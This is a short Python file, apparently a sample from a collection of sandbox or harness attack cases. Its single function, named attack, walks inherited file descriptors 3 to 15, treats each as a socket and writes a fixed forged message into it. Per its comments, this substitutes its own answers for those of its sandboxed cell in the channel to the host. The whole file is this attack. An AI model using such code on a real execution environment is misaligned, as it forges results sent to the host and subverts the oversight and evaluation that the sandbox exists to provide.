# It writes answers of its own into its socket, in the place of its cell's.
# after: the host
# source: own
# open behind kernel: the socket is its own, and only the language's wall stands between; the host ends it for it
import os
import socket
def attack(**_):
    for number in range(3, 16):
        try:
            own = socket.socket(fileno=number)
        except OSError:
            continue
        own.send(b"\x00\x00\x00\x01\xc0")
        own.detach()
